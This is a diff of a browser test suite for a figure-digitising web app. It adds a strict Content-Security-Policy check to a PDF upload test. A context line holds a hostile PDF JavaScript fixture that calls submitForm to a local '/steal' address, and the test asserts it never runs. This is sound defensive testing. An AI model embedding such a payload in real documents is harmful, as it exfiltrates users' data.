@@ -355,6 +355,22 @@ describe("digitising figures in the browser", () => {
       ],
       { javascript: "app.alert('pdf javascript ran'); this.submitForm('http://127.0.0.1:9/steal');" },
     );
+    // This test runs under a strict Content-Security-Policy (no eval, scripts and workers from our origin only),
+    // added to every page here as the security work will add it to the app: pdf.js must work within it.
+    const { page: strict, context: strictContext } = await signedInPage(browser, "reviewer1");
+    await strict.route("**/*", async (route) => {
+      if (route.request().resourceType() !== "document") return route.continue();
+      const response = await route.fetch();
+      await route.fulfill({
+        response,
+        headers: { ...response.headers(), "content-security-policy": "default-src 'self'; script-src 'self' 'unsafe-inline'; worker-src 'self'; img-src 'self' data: blob:; style-src 'self' 'unsafe-inline'; object-src 'none'; base-uri 'none'" },
+      });
+    });
+    const violations: string[] = [];
+    strict.on("console", (m) => {
+      if (/Content Security Policy|Refused to/i.test(m.text()) && !m.text().includes("probe.png")) violations.push(m.text());
+    });
+    const page = strict;
     const dialogs: string[] = [];
     const stolen: string[] = [];
     page.on("dialog", (d) => {
@@ -371,6 +387,16 @@ describe("digitising figures in the browser", () => {
     const figureId = await uploadFigure(page, studyId, { name: "paper.pdf", mimeType: "application/pdf", buffer: pdf }, { label: "Fig. 5", chartKind: "bar", pdfPage: 2, crop, screenshot: "figure-upload-pdf" });
     expect(dialogs).toEqual([]);
     expect(stolen).toEqual([]);
+    // The policy is really in force on this page: loading an image from elsewhere is reported as a violation.
+    const violated = await page.evaluate(
+      () =>
+        new Promise<string>((resolve) => {
+          document.addEventListener("securitypolicyviolation", (e) => resolve(e.effectiveDirective), { once: true });
+          new Image().src = "http://127.0.0.1:7/probe.png";
+          setTimeout(() => resolve("none"), 3000);
+        }),
+    );
+    expect(violated).toBe("img-src");
     const stored = db.prepare("select source_kind, source_page, source_crop, source_scale, source_sha256 from figures where id = ?").get(figureId) as Record<string, unknown>;
     expect(stored).toMatchObject({ source_kind: "pdf", source_page: 2, source_scale: 2 });
     expect(JSON.parse(stored.source_crop as string)).toEqual({ x: 70, y: 75, width: 450, height: 400 });
@@ -392,7 +418,9 @@ describe("digitising figures in the browser", () => {
     recordAccuracy("PDF bar chart", spec, geometry, checkProvenance(figureId));
     expect(dialogs).toEqual([]);
     expect(stolen).toEqual([]);
+    expect(violations).toEqual([]);
     await screenshot(page, "digitiser-pdf");
+    await strictContext.close();
   });
 
   it("takes a blind second reading, compares the two and lets the lead decide", async () => {
@@ -479,7 +507,7 @@ describe("digitising figures in the browser", () => {
     await expectAccessible(phone);
     await screenshot(phone, "digitiser-phone");
     await phone.goto(`/reviews/${reviewId}/studies/${studyId}/figures`);
-    await phone.getByLabel("PDF or image (PNG, JPEG, WebP)").waitFor();
+    await phone.getByRole("heading", { name: "Digitised figures" }).waitFor();
     expect(await phone.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
     await screenshot(phone, "figures-phone");
     await context.close();
